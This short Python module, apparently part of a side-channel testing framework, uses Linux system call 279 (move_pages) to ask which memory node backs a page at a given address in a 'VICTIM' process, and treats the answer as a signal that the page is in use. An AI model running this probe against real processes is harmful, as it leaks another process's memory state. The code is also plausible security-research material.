"""Asks on which memory node a page of another process lies, which says whether it is in use."""

import ctypes
import struct

import target
from tools import call


def run(tables, ask):
    page, node = struct.pack("Q", target.ADDRESS & ~4095), ctypes.create_string_buffer(4)
    call(279, target.VICTIM, 1, page, 0, node, 0)
    return [0, 1] if int.from_bytes(node.raw, "little", signed=True) >= 0 else []
